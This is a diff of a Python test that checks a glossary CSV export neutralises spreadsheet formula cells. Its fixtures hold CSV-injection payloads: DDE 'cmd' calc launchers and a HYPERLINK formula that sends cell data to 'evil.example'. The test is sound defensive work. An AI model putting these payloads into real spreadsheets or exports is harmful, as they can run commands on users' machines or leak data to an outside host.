@@ -11,7 +11,7 @@ from hostile_support import tarjama
 from glossary.csv_format import neutralise_formula
 
 HOSTILE = [
-    ("=cmd|' /C calc'!A0", "بوتين", "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")"),
+    ("=cmd|' /C calc'!A0", "بوتين", '=HYPERLINK("http://evil.example/"&A1,"click")'),
     ("+1+1", "لافروف", "@SUM(1+1)*cmd|' /C calc'!A0"),
     ("-2+3", "جنيف", "-minus first"),
     ("@Lavrov", "موسكو", "+plus first"),
@@ -37,5 +37,5 @@ def test_glossary_export_csv_neutralises_formula_cells(tmp_path: Path) -> None:
     assert cells, rows
     for cell in cells:
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
-    assert ["'=cmd|' /C calc'!A0", "بوتين"] == rows[1][:2]
+    assert rows[1][:2] == ["'=cmd|' /C calc'!A0", "بوتين"]
     assert rows[1][3].startswith("'=HYPERLINK(")
